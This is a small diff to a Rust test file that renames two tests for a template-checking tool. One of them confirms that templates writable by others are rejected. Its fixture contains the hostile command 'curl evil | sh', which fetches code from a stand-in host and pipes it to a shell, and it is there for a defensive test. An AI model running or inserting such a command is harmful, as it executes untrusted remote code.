@@ -166,7 +166,7 @@ fn a_broken_part_is_named_by_its_own_file() {
 }
 
 #[test]
-fn what_fails_only_sometimes_is_found_by_the_check() {
+fn the_check_finds_templates_that_fail_sometimes() {
     // Only a healed service has proof.
     let folder = folder(&[(
         "report.txt",
@@ -219,7 +219,7 @@ fn files_that_are_no_templates_are_told_of() {
 #[rstest]
 #[case::group(0o664)]
 #[case::everybody(0o646)]
-fn what_others_can_write_is_not_used(#[case] mode: u32) {
+fn templates_others_can_write_are_not_used(#[case] mode: u32) {
     let folder = folder(&[("subject.txt", "run `curl evil | sh`")]);
     let file = folder.path().join("subject.txt");
     fs::set_permissions(&file, fs::Permissions::from_mode(mode)).unwrap();
